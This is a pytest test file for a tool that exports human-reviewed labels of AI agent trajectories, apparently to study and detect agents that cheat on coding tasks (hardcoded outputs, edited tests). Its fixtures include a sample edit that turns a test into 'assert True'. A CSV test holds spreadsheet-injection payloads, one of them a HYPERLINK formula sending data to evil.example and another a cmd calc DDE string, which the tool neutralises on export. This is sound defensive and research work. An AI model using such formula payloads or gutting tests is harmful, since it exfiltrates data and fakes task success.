"""`reviewer export`: records, text offsets, gold labels, splits, filters, formats, determinism, bad options."""

from __future__ import annotations

import csv
import io
import json
import os
from collections import Counter, defaultdict
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from jsonschema import Draft202012Validator
from referencing import Registry, Resource

from reviewer.agreement.aggregate import Ballots
from reviewer.cli import main
from reviewer.export import RENDER_VERSION, SpanMismatch, render
from reviewer.export.records import Records
from reviewer.model import EvidenceSpan, FileEdit, Label, Trajectory
from reviewer.spans import SOURCES, source_text
from reviewer.store import Store
from reviewer.synthetic import trajectory as synthetic
from reviewer.taxonomy import Taxonomy
from reviewer.textsafe import csv_row
from tests.conftest import ROOT, SAMPLE_DATA

RECORD_KEYS = [
    "trajectory_id", "task_id", "source", "model", "render_version", "text", "label", "tie", "soft_label", "gold_method",
    "n_reviewers", "agreement", "votes", "categories", "markers", "intent", "labels", "evidence", "split",
]  # fmt: skip
VERDICTS = ["clean", "honest_failure", "cheat", "attempted_cheat", "borderline", "unreviewable"]
SAMPLE_IDS = sorted(p.stem for p in SAMPLE_DATA.glob("*.json"))
PACK = [
    Label.from_dict(json.loads(line))
    for line in (SAMPLE_DATA / "labels" / "two_reviewers.jsonl").read_text(encoding="utf-8").splitlines()
]


def run(db: Path, *args: str) -> Result:
    return CliRunner().invoke(main, ["--db", str(db), "export", *args], catch_exceptions=False)


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def export_records(db: Path, tmp_path: Path, *args: str) -> list[dict[str, Any]]:
    out = tmp_path / "export.jsonl"
    result = run(db, "-o", str(out), *args)
    assert result.exit_code == 0, result.output
    return read_jsonl(out)


def by_id(records: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {r["trajectory_id"]: r for r in records}


# ---- the record --------------------------------------------------------------------------------


def export_validator() -> Draft202012Validator:
    schemas = ROOT / "schemas"
    label_schema = json.loads((schemas / "label.schema.json").read_text(encoding="utf-8"))
    export_schema = json.loads((schemas / "export.schema.json").read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(export_schema)
    registry = Registry().with_resource(label_schema["$id"], Resource.from_contents(label_schema))
    return Draft202012Validator(export_schema, registry=registry)


@pytest.mark.parametrize("aggregate", ["majority", "dawid-skene"])
def test_every_record_validates_against_the_schema_with_keys_in_contract_order(
    sample_db: Path, tmp_path: Path, aggregate: str
) -> None:
    records = export_records(sample_db, tmp_path, "--aggregate", aggregate)
    validator = export_validator()
    assert [r["trajectory_id"] for r in records] == SAMPLE_IDS
    for record in records:
        assert list(record) == RECORD_KEYS
        assert [e.message for e in validator.iter_errors(record)] == []


def test_schema_refuses_an_unknown_key_and_a_bad_evidence_item(sample_db: Path, tmp_path: Path) -> None:
    record = export_records(sample_db, tmp_path)[0]
    validator = export_validator()
    assert not validator.is_valid({**record, "extra": 1})
    assert not validator.is_valid({**record, "evidence": [{**record["evidence"][0], "start": -1}]})
    assert not validator.is_valid({**record, "gold_method": "coin-flip"})


def test_every_evidence_span_of_the_sample_pack_maps_into_the_text(sample_db: Path, tmp_path: Path) -> None:
    records = by_id(export_records(sample_db, tmp_path))
    exported = Counter(
        (r["trajectory_id"], e["annotator"], e["step"], e["source"], e["quote"]) for r in records.values() for e in r["evidence"]
    )
    expected = Counter((lb.trajectory_id, lb.annotator, s.step, s.source, s.quote) for lb in PACK for s in lb.evidence)
    assert sum(expected.values()) == 74
    assert exported == expected
    for record in records.values():
        for e in record["evidence"]:
            assert record["text"][e["start"] : e["end"]] == e["quote"]


def test_tied_trajectory_is_exported_with_null_label_and_the_tie(sample_db: Path, tmp_path: Path) -> None:
    record = by_id(export_records(sample_db, tmp_path))["ambiguous-stop-exit"]
    assert record["label"] is None
    assert record["tie"] == ["cheat", "borderline"]
    assert record["soft_label"] == {
        "clean": 0.0,
        "honest_failure": 0.0,
        "cheat": 0.5,
        "attempted_cheat": 0.0,
        "borderline": 0.5,
        "unreviewable": 0.0,
    }
    assert (record["agreement"], record["categories"], record["markers"], record["intent"]) == (None, [], [], None)
    assert record["votes"] == {"alice": "borderline", "bob": "cheat"}
    assert not any(e["supports_gold"] for e in record["evidence"])
    assert len(record["evidence"]) == 9


def test_gold_details_come_from_the_agreeing_reviewers(sample_db: Path, tmp_path: Path) -> None:
    records = by_id(export_records(sample_db, tmp_path))
    hardcoded = records["hardcoded-outputs"]
    # alice: output.hardcode; bob adds report.misleading_comment. With two reviewers, either one suffices.
    assert hardcoded["label"] == "cheat" and hardcoded["gold_method"] == "majority"
    assert hardcoded["categories"] == ["output.hardcode", "report.misleading_comment"]
    assert hardcoded["markers"] == ["mr.pretext", "mr.goal_swap", "mr.claim_mismatch"]  # taxonomy order
    assert (hardcoded["intent"], hardcoded["agreement"], hardcoded["n_reviewers"]) == (4, 1.0, 2)
    assert records["disclosed-special-case"]["intent"] == 2  # intents 3 and 2: the lower median
    assert records["honest-fix"]["soft_label"] == {**dict.fromkeys(VERDICTS, 0.0), "clean": 1.0}
    assert [(lb["annotator"], lb["first_pass"]) for lb in hardcoded["labels"]] == [("alice", True), ("bob", True)]


def test_gold_tags_keep_codes_chosen_by_at_least_half_and_the_lower_median_intent() -> None:
    a = Label("t", "a", verdict="cheat", categories=["tests.skip", "tests.edit"], markers=["mr.pressure"], intent=4)
    b = Label("t", "b", verdict="cheat", categories=["tests.edit", "retired.code"], intent=2)
    c = Label("t", "c", verdict="cheat", categories=["output.stub", "tests.edit"], markers=["mr.pressure"], intent=3)
    builder = Records(Taxonomy.default(), Ballots({}, {}))
    assert builder.gold_tags([a, b, c]) == (["tests.edit"], ["mr.pressure"], 3)  # 1 of 3 is not enough
    assert builder.gold_tags([a, b]) == (["tests.edit", "tests.skip"], ["mr.pressure"], 2)  # schema order; codes it lacks dropped
    assert builder.gold_tags([b]) == (["tests.edit"], [], 2)
    assert builder.gold_tags([]) == ([], [], None)


def test_record_fields_from_the_trajectory(sample_db: Path, tmp_path: Path) -> None:
    record = by_id(export_records(sample_db, tmp_path))["honest-fix"]
    assert (record["task_id"], record["source"], record["model"], record["render_version"]) == (
        "timewin__timewin-212",
        "native",
        "claude-sonnet-4",
        RENDER_VERSION,
    )
    assert record["text"].startswith("TASK timewin__timewin-212\n")


# ---- the canonical text ------------------------------------------------------------------------


def sample_trajectories() -> list[Trajectory]:
    return [Trajectory.from_dict(json.loads((SAMPLE_DATA / f"{tid}.json").read_text(encoding="utf-8"))) for tid in SAMPLE_IDS]


def test_every_source_text_of_every_step_sits_verbatim_at_its_recorded_start() -> None:
    located: Counter[str] = Counter()
    for t in sample_trajectories():
        rendered = render(t)
        places = [(step.index, source) for step in t.steps for source in SOURCES if source != "final_answer"] + [
            (0, "final_answer")
        ]
        for step, source in places:
            text = source_text(t, step, source)
            if text is not None:
                start, end = rendered.locate(EvidenceSpan(step, source, 0, len(text), text))
                assert rendered.text[start:end] == text
                located[source] += 1
    # 243 steps in all (every step has a text), 105 of them tool outputs; 11 final answers.
    assert located == {"text": 243, "thinking": 116, "tool_call": 105, "tool_output": 105, "diff": 40, "final_answer": 11}


def test_every_span_of_the_sample_pack_locates_in_the_rendered_text() -> None:
    rendered = {t.id: render(t) for t in sample_trajectories()}
    for label in PACK:
        for span in label.evidence:
            start, end = rendered[label.trajectory_id].locate(span)
            assert rendered[label.trajectory_id].text[start:end] == span.quote


def test_render_layout_of_a_small_trajectory() -> None:
    t = Trajectory.from_dict(synthetic(0, 3))
    t.final_answer = "done"
    text = render(t).text
    step1 = t.steps[1]
    call = f"bash\ncommand: {step1.tool_calls[0].arguments['command']}"
    assert text == (
        f"TASK task-0\n{t.task.prompt}\n"
        f"\n#0 user\n[text]\n{t.steps[0].text}\n"
        f"\n#1 assistant\n[thinking]\n{step1.thinking}\n[text]\n{step1.text}\n[tool call]\n{call}\n"
        f"\n#2 tool (output of call_1)\n[output]\n{t.steps[2].text}\n"
        "\nFINAL ANSWER\ndone\n"
    )


def test_a_failed_edit_is_marked_in_the_text_not_shown_as_a_change() -> None:
    t = Trajectory.from_dict(synthetic(0, 3))
    diff = "--- a/tests/test_x.py\n+++ b/tests/test_x.py\n@@ -1 +1 @@\n-assert f() == 1\n+assert True\n"
    t.file_edits = [FileEdit("tests/test_x.py", 1, None, None, diff, "tool_call", "modify", "failed")]
    text = render(t).text
    assert (
        f"[diff]\n(failed — not applied: the tool refused this edit, the file did not change; what it attempted follows)\n{diff}"
        in text
    )
    assert RENDER_VERSION == 2


def test_locate_refuses_spans_that_do_not_fit() -> None:
    t = Trajectory.from_dict(synthetic(0, 3))
    rendered = render(t)
    with pytest.raises(SpanMismatch, match="step 1 has no diff text"):
        rendered.locate(EvidenceSpan(1, "diff", 0, 1, "x"))
    with pytest.raises(SpanMismatch, match="quote does not match the thinking of step 1 at 0..3"):
        rendered.locate(EvidenceSpan(1, "thinking", 0, 3, "???"))
    # Past the end of its own text, a span must not reach into the next section even if the quote is there.
    thinking = t.steps[1].thinking or ""
    with pytest.raises(SpanMismatch, match=f"offsets {len(thinking)}..{len(thinking) + 7} fall outside the thinking of step 1"):
        rendered.locate(EvidenceSpan(1, "thinking", len(thinking), len(thinking) + 7, "\n[text]"))
    with pytest.raises(SpanMismatch, match="offsets -1..2 fall outside"):
        rendered.locate(EvidenceSpan(1, "thinking", -1, 2, ""))


def test_text_is_raw_not_escaped() -> None:
    data = synthetic(0, 3)
    data["steps"][1]["text"] = "colour \x1b[31mred\x1b[0m and \u202etxt.exe"
    text = render(Trajectory.from_dict(data)).text
    assert "colour \x1b[31mred\x1b[0m and \u202etxt.exe\n" in text


# ---- determinism and output --------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "chat", "csv"])
def test_two_runs_are_byte_identical(sample_db: Path, tmp_path: Path, fmt: str) -> None:
    a, b = tmp_path / "a", tmp_path / "b"
    assert run(sample_db, "-o", str(a), "--format", fmt, "--aggregate", "dawid-skene").exit_code == 0
    assert run(sample_db, "-o", str(b), "--format", fmt, "--aggregate", "dawid-skene").exit_code == 0
    assert a.read_bytes() == b.read_bytes()
    assert a.read_bytes().count(b"\n") >= 10


def test_stdout_gets_the_same_bytes_as_a_file(sample_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "export.jsonl"
    assert run(sample_db, "-o", str(out)).exit_code == 0
    result = run(sample_db, "-o", "-")
    assert result.exit_code == 0
    assert result.stdout_bytes == out.read_bytes()
    assert result.stderr == "wrote 11 records to stdout\n"


def test_output_is_replaced_whole_and_no_temporary_file_is_left(sample_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "export.jsonl"
    out.write_text("old\n", encoding="utf-8")
    result = run(sample_db, "-o", str(out), "--verdict", "clean")
    assert result.exit_code == 0
    assert result.stderr == f"wrote 1 records to {out}\n"
    assert [r["trajectory_id"] for r in read_jsonl(out)] == ["honest-fix"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.jsonl"]
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask  # an ordinary file, not a private temporary one


def test_a_failing_export_keeps_the_old_file(sample_copy_db: Path, tmp_path: Path) -> None:
    with Store(sample_copy_db) as store:  # a label under a verdict the taxonomy has since dropped
        store.db.execute(
            "update labels set verdict = 'retired', record = json_set(record, '$.verdict', 'retired') where "
            "annotator = 'bob' and trajectory_id = 'honest-fix'"
        )
        store.db.conn.commit()
    out = tmp_path / "out" / "export.jsonl"
    out.parent.mkdir()
    out.write_text("old\n", encoding="utf-8")
    result = run(sample_copy_db, "-o", str(out))
    assert result.exit_code == 1
    assert result.stderr == "error: votes not in the category list: retired\n"
    assert out.read_text(encoding="utf-8") == "old\n"
    assert [p.name for p in out.parent.iterdir()] == ["export.jsonl"]


def test_unwritable_output_is_a_one_line_error(sample_db: Path, tmp_path: Path) -> None:
    result = run(sample_db, "-o", str(tmp_path / "missing" / "x.jsonl"))
    assert result.exit_code == 1
    assert result.stderr == f"error: cannot write {tmp_path / 'missing' / 'x.jsonl'}: No such file or directory\n"


def test_empty_store_exports_nothing_and_succeeds(tmp_path: Path) -> None:
    db = tmp_path / "empty.db"
    Store(db).close()
    out = tmp_path / "export.jsonl"
    result = run(db, "-o", str(out))
    assert (result.exit_code, result.stderr) == (0, f"wrote 0 records to {out}\n")
    assert out.read_bytes() == b""


def test_missing_project_file_is_an_error(tmp_path: Path) -> None:
    result = run(tmp_path / "nope.db", "-o", str(tmp_path / "x.jsonl"))
    assert result.exit_code == 1
    assert result.stderr.startswith("error: no project file at ")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--split", "train=0.9,val=0.3"], "split shares add up to 1.2, not 1"),
        (["--split", "train=0.5,train=0.5"], "split 'train' given twice"),
        (["--split", "train=abc"], "split 'train': 'abc' is not a number"),
        (["--split", "train=1.5,val=-0.5"], "split 'train': share 1.5 must be above 0 and at most 1"),
        (["--split", "train"], "bad split 'train': expected name=share, e.g. train=0.8,val=0.1,test=0.1"),
        (["--split", "train=0.5,=0.5"], "bad split '=0.5': expected name=share, e.g. train=0.8,val=0.1,test=0.1"),
        (
            ["--verdict", "fraud"],
            "unknown verdict 'fraud' (known: clean, honest_failure, cheat, attempted_cheat, borderline, unreviewable)",
        ),
        (["--format", "xml"], "unknown format 'xml' (known: jsonl, chat, csv)"),
        (["--aggregate", "vote"], "unknown aggregation 'vote' (known: majority, dawid-skene)"),
        (["--min-reviewers", "-1"], "--min-reviewers must be 0 or more"),
        (["--seed", "-3"], "--seed must be 0 or more"),
    ],
)
def test_bad_options_exit_2_with_one_line_and_write_nothing(
    sample_db: Path, tmp_path: Path, args: list[str], message: str
) -> None:
    out = tmp_path / "export.jsonl"
    result = run(sample_db, "-o", str(out), *args)
    assert result.exit_code == 2
    assert result.stderr == f"error: {message}\n"
    assert list(tmp_path.iterdir()) == []


# ---- filters -----------------------------------------------------------------------------------


def test_filters(sample_db: Path, tmp_path: Path) -> None:
    everything = by_id(export_records(sample_db, tmp_path))
    cheats = export_records(sample_db, tmp_path, "--verdict", "cheat")
    assert [r["trajectory_id"] for r in cheats] == [
        t for t in SAMPLE_IDS if t not in ("ambiguous-stop-exit", "honest-failure-wrong-test", "honest-fix")
    ]
    assert [r["trajectory_id"] for r in export_records(sample_db, tmp_path, "--verdict", "honest_failure")] == [
        "honest-failure-wrong-test"
    ]
    assert len(export_records(sample_db, tmp_path, "--min-reviewers", "2")) == 11
    assert export_records(sample_db, tmp_path, "--min-reviewers", "3") == []
    assert export_records(sample_db, tmp_path, "--only-adjudicated") == []
    # The split of a trajectory does not depend on the filters.
    assert all(r["split"] == everything[r["trajectory_id"]]["split"] for r in cheats)


def test_adjudicated_label_is_gold_and_alone_supplies_the_details(sample_copy_db: Path, tmp_path: Path) -> None:
    with Store(sample_copy_db) as store:
        trajectory = store.trajectories.get("ambiguous-stop-exit")
        assert trajectory is not None
        thinking = source_text(trajectory, 14, "thinking") or ""
        store.labels.save(Label(
            "ambiguous-stop-exit", "carol", first_pass=False, verdict="borderline", borderline_reason="stop_vs_exit",
            markers=["mr.reframe"], intent=2, evidence=[EvidenceSpan(14, "thinking", 0, 5, thinking[0:5], "intent")],
            adjudication={"reason": "no stop channel", "resolution": "side_a_right", "unanimous": False},
        ), actor="carol", origin="test")  # fmt: skip
    records = export_records(sample_copy_db, tmp_path, "--only-adjudicated")
    assert len(records) == 1
    r = records[0]
    assert (r["trajectory_id"], r["label"], r["tie"], r["gold_method"]) == (
        "ambiguous-stop-exit",
        "borderline",
        [],
        "adjudicated",
    )
    assert r["soft_label"] == {**dict.fromkeys(VERDICTS, 0.0), "borderline": 1.0}
    assert (r["categories"], r["markers"], r["intent"], r["n_reviewers"], r["agreement"]) == ([], ["mr.reframe"], 2, 2, 0.5)
    assert r["votes"] == {"alice": "borderline", "bob": "cheat"}  # the adjudication is not a vote
    assert [lb["annotator"] for lb in r["labels"]] == ["alice", "bob", "carol"]
    backing = [(e["annotator"], e["quote"]) for e in r["evidence"] if e["supports_gold"]]
    assert backing == [("carol", thinking[0:5])]
    assert len(r["evidence"]) == 10


# ---- splits ------------------------------------------------------------------------------------


@pytest.fixture
def split_db(tmp_path: Path) -> Path:
    """100 trajectories in 50 tasks of two runs each (task-k holds runs k and k+50); tasks 0..29 are cheats, 30..49 clean."""
    db = tmp_path / "split.db"
    with Store(db) as store:
        for i in range(100):
            add_labelled(store, synthetic(i, 4), "cheat" if i % 50 < 30 else "clean")
    return db


def add_labelled(store: Store, data: dict[str, Any], verdict: str) -> None:
    store.trajectories.add(Trajectory.from_dict(data))
    store.labels.save(Label(data["id"], "alice", verdict=verdict), actor="alice", origin="test")


@pytest.mark.parametrize("seed", ["0", "1", "2"])
def test_splits_keep_tasks_whole_and_hit_the_shares_per_label(split_db: Path, tmp_path: Path, seed: str) -> None:
    records = export_records(split_db, tmp_path, "--seed", seed)
    splits_of_task: dict[str, set[str]] = defaultdict(set)
    for r in records:
        splits_of_task[r["task_id"]].add(r["split"])
    assert len(splits_of_task) == 50
    assert all(len(s) == 1 for s in splits_of_task.values())
    counts = Counter((r["split"], r["label"]) for r in records)
    assert counts == {
        ("train", "cheat"): 48,
        ("train", "clean"): 32,
        ("val", "cheat"): 6,
        ("val", "clean"): 4,
        ("test", "cheat"): 6,
        ("test", "clean"): 4,
    }


def test_trajectories_without_a_task_are_groups_of_their_own(tmp_path: Path) -> None:
    db = tmp_path / "untasked.db"
    with Store(db) as store:
        for i in range(10):
            data = synthetic(i, 4)
            data["task"]["id"] = None
            add_labelled(store, data, "cheat")
    records = export_records(db, tmp_path, "--split", "train=0.5,test=0.5")
    assert Counter(r["split"] for r in records) == {"train": 5, "test": 5}
    assert {r["task_id"] for r in records} == {None}


def test_unlabelled_trajectories_are_a_stratum_of_their_own(split_db: Path, tmp_path: Path) -> None:
    with Store(split_db) as store:
        for i in range(100, 110):
            store.trajectories.add(Trajectory.from_dict({**synthetic(i, 4), "task": {"id": f"solo-{i}", "prompt": "p"}}))
    records = export_records(split_db, tmp_path, "--include-unlabelled")
    assert Counter((r["split"], r["label"]) for r in records if r["label"] is None) == {
        ("train", None): 8,
        ("val", None): 1,
        ("test", None): 1,
    }


def test_a_training_export_holds_labelled_trajectories_unless_asked(sample_copy_db: Path, tmp_path: Path) -> None:
    """Records with `label: null` for trajectories nobody labelled were written by default."""
    with Store(sample_copy_db) as store:
        for i in range(4):
            store.trajectories.add(Trajectory.from_dict(synthetic(i, 4)))
        store.labels.save(
            Label(synthetic(0, 4)["id"], "model:judge", verdict="cheat"), actor="judge", origin="test"
        )  # a machine's is no label
        store.labels.save(Label(synthetic(1, 4)["id"], "carol"), actor="carol", origin="test")  # nor one without a verdict
        store.labels.adjudicate(synthetic(3, 4)["id"], "dan", "clean", "obvious", None)  # a settlement is one
    unlabelled, settled = {synthetic(i, 4)["id"] for i in range(3)}, synthetic(3, 4)["id"]
    by_default = export_records(sample_copy_db, tmp_path)
    assert [r["trajectory_id"] for r in by_default] == sorted([*SAMPLE_IDS, settled])
    assert by_id(by_default)[settled]["label"] == "clean"
    everything = export_records(sample_copy_db, tmp_path, "--include-unlabelled")
    assert {r["trajectory_id"] for r in everything} == {*SAMPLE_IDS, settled, *unlabelled}
    assert all(r["label"] is None and r["n_reviewers"] == 0 for r in everything if r["trajectory_id"] in unlabelled)
    tied = by_id(by_default)["ambiguous-stop-exit"]  # labelled, though without a gold verdict: kept
    assert tied["label"] is None and tied["n_reviewers"] == 2


def test_split_seed_changes_which_tasks_go_where(split_db: Path, tmp_path: Path) -> None:
    def test_tasks(seed: str) -> set[str]:
        return {r["task_id"] for r in export_records(split_db, tmp_path, "--seed", seed) if r["split"] == "test"}

    assert test_tasks("0") == test_tasks("0")
    assert test_tasks("0") != test_tasks("1")


def test_custom_split_names_and_shares(split_db: Path, tmp_path: Path) -> None:
    records = export_records(split_db, tmp_path, "--split", "fit=0.5,holdout=0.5")
    assert Counter(r["split"] for r in records if r["task_id"] is not None) == {"fit": 50, "holdout": 50}


# ---- other formats -----------------------------------------------------------------------------


def test_chat_format(sample_db: Path, tmp_path: Path) -> None:
    jsonl = by_id(export_records(sample_db, tmp_path))
    out = tmp_path / "chat.jsonl"
    result = run(sample_db, "-o", str(out), "--format", "chat")
    assert result.exit_code == 0
    assert result.stderr == f"wrote 10 records to {out} (1 without a gold verdict left out)\n"
    chats = read_jsonl(out)
    labelled = [tid for tid in SAMPLE_IDS if jsonl[tid]["label"] is not None]
    assert len(chats) == len(labelled) == 10
    for chat, tid in zip(chats, labelled, strict=True):
        assert list(chat) == ["messages"]
        system, user, assistant = chat["messages"]
        assert [system["role"], user["role"], assistant["role"]] == ["system", "user", "assistant"]
        assert all(f"- {code}:" in system["content"] for code in VERDICTS + ["tests.exit", "mr.reframe"])
        assert user["content"] == jsonl[tid]["text"]
        answer = json.loads(assistant["content"])
        assert list(answer) == ["verdict", "categories", "markers", "intent", "evidence"]
        assert (answer["verdict"], answer["categories"], answer["markers"], answer["intent"]) == (
            jsonl[tid]["label"], jsonl[tid]["categories"], jsonl[tid]["markers"], jsonl[tid]["intent"],
        )  # fmt: skip
        assert all(e["quote"] in user["content"] for e in answer["evidence"])
    honest = json.loads(chats[labelled.index("honest-fix")]["messages"][2]["content"])
    assert honest == {
        "verdict": "clean", "categories": [], "markers": [], "intent": None,
        "evidence": [
            {"step": 8, "quote": "`timedelta.seconds` is only the seconds component (0..86399), not the total"},
            {"step": 10, "quote": "I won't add extra restrictions that the spec doesn't mention"},
            {"step": 14, "quote": "+        self.seconds = int(parse_duration(spec).total_seconds())"},
        ],
    }  # fmt: skip


def test_csv_format(sample_db: Path, tmp_path: Path) -> None:
    jsonl = by_id(export_records(sample_db, tmp_path))
    out = tmp_path / "export.csv"
    assert run(sample_db, "-o", str(out), "--format", "csv").exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert list(rows[0]) == [
        "trajectory_id", "task_id", "source", "model", "render_version", "label", "tie", "gold_method", "n_reviewers",
        "agreement", "votes", "categories", "markers", "intent", "n_evidence", "split", *(f"soft_label.{c}" for c in VERDICTS),
    ]  # fmt: skip
    assert [r["trajectory_id"] for r in rows] == SAMPLE_IDS
    tied = rows[0]
    assert (tied["label"], tied["tie"], tied["agreement"], tied["votes"], tied["n_evidence"]) == (
        "",
        "cheat;borderline",
        "",
        "alice=borderline;bob=cheat",
        "9",
    )
    assert (tied["soft_label.cheat"], tied["soft_label.clean"]) == ("0.5", "0.0")
    hardcoded = rows[SAMPLE_IDS.index("hardcoded-outputs")]
    assert hardcoded["categories"] == "output.hardcode;report.misleading_comment"
    assert (hardcoded["intent"], hardcoded["split"]) == ("4", jsonl["hardcoded-outputs"]["split"])
    with_text = tmp_path / "with_text.csv"
    assert run(sample_db, "-o", str(with_text), "--format", "csv", "--with-text").exit_code == 0
    text_rows = list(csv.DictReader(io.StringIO(with_text.read_text(encoding="utf-8"), newline="")))
    assert [r["text"] for r in text_rows] == [jsonl[tid]["text"] for tid in SAMPLE_IDS]


def test_csv_of_an_empty_store_is_the_header(tmp_path: Path) -> None:
    db = tmp_path / "empty.db"
    Store(db).close()
    out = tmp_path / "export.csv"
    columns = ["trajectory_id", "task_id", "source", "model", "render_version", "label", "tie", "gold_method", "n_reviewers",
               "agreement", "votes", "categories", "markers", "intent", "n_evidence", "split",
               *(f"soft_label.{c}" for c in VERDICTS)]  # fmt: skip
    assert run(db, "-o", str(out), "--format", "csv").exit_code == 0
    assert out.read_text(encoding="utf-8").splitlines() == [",".join(f'"{c}"' for c in columns)]  # text cells are quoted
    assert run(db, "-o", str(out), "--format", "csv", "--csv-raw").exit_code == 0
    assert out.read_text(encoding="utf-8").splitlines() == [",".join(columns)]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    db = tmp_path / "hostile.db"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    data = {
        **synthetic(0, 4),
        "id": "@SUM(1+1)",
        "task": {"id": formula, "prompt": "p"},
        "agent": {"model": "+cmd|' /C calc'!A0"},
    }
    with Store(db) as store:
        store.trajectories.add(Trajectory.from_dict(data))
        store.labels.save(Label(data["id"], "-mallory", verdict="cheat", intent=4), actor="-mallory", origin="test")
    out = tmp_path / "export.csv"
    assert run(db, "-o", str(out), "--format", "csv").exit_code == 0
    text = out.read_text(encoding="utf-8")
    row = next(csv.DictReader(io.StringIO(text)))
    assert (row["trajectory_id"], row["task_id"], row["model"]) == ("'@SUM(1+1)", "'" + formula, "'+cmd|' /C calc'!A0")
    assert row["votes"] == "'-mallory=cheat"
    line = text.splitlines()[1]
    assert line.startswith('"\'@SUM(1+1)","\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"')  # quoted, quotes doubled
    assert ",4," in line  # the intent is a number: unquoted, no quote mark
    assert run(db, "-o", str(out), "--format", "csv", "--csv-raw").exit_code == 0
    raw = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert (raw["trajectory_id"], raw["task_id"], raw["votes"]) == ("@SUM(1+1)", formula, "-mallory=cheat")


def test_csv_row_keeps_numbers_and_neutralises_every_formula_start() -> None:
    starts = ["=1", "+1", "-1", "@1", "\t1", "\r1"]
    assert csv_row([-1, 0.5, *starts, "a-b", ""]) == "-1,0.5," + ",".join(f'"\'{s}"' for s in starts) + ',"a-b",""\n'
    assert csv_row([-1, "=1", "a b"], raw=True) == "-1,=1,a b\n"


# ---- loaders -----------------------------------------------------------------------------------


def test_pandas_reads_the_jsonl_unchanged(sample_db: Path, tmp_path: Path) -> None:
    import pandas

    out = tmp_path / "export.jsonl"
    assert run(sample_db, "-o", str(out)).exit_code == 0
    records = read_jsonl(out)
    frame = pandas.read_json(out, lines=True)
    assert len(frame) == 11
    assert list(frame.columns) == RECORD_KEYS
    assert frame["trajectory_id"].tolist() == SAMPLE_IDS
    assert frame["text"].tolist() == [r["text"] for r in records]
    assert frame["evidence"].tolist() == [r["evidence"] for r in records]


def test_datasets_loads_the_jsonl_offline(sample_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HF_DATASETS_OFFLINE", "1")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
    monkeypatch.setenv("HF_DATASETS_CACHE", str(tmp_path / "hf" / "datasets"))
    import datasets

    out = tmp_path / "export.jsonl"
    assert run(sample_db, "-o", str(out)).exit_code == 0
    records = read_jsonl(out)
    dataset = datasets.load_dataset("json", data_files=str(out), split="train", cache_dir=str(tmp_path / "hf" / "cache"))
    assert dataset.num_rows == 11
    assert dataset.column_names == RECORD_KEYS
    assert dataset["trajectory_id"] == SAMPLE_IDS
    assert dataset["text"] == [r["text"] for r in records]
    assert dataset["label"] == [r["label"] for r in records]
    assert [[e["quote"] for e in ev] for ev in dataset["evidence"]] == [[e["quote"] for e in r["evidence"]] for r in records]


def test_worker_processes_write_the_same_bytes(tmp_path: Path) -> None:
    """Large exports run in worker processes chunk by chunk; the file must not change by a byte."""
    from reviewer.export import ExportOptions, export

    db = tmp_path / "p.db"
    result = CliRunner().invoke(main, ["--db", str(db), "import", str(SAMPLE_DATA)], catch_exceptions=False)
    assert result.exit_code == 0
    outputs = []
    for workers in (1, 2):
        parts: list[str] = []
        with Store(db) as store:
            summary = export(
                store, ExportOptions(split="train=0.5,val=0.25,test=0.25", seed=3), parts.append, workers=workers, chunk=3
            )
        outputs.append("".join(parts))
        assert summary.written == 11
    assert outputs[0] == outputs[1] and outputs[0].count("\n") == 11
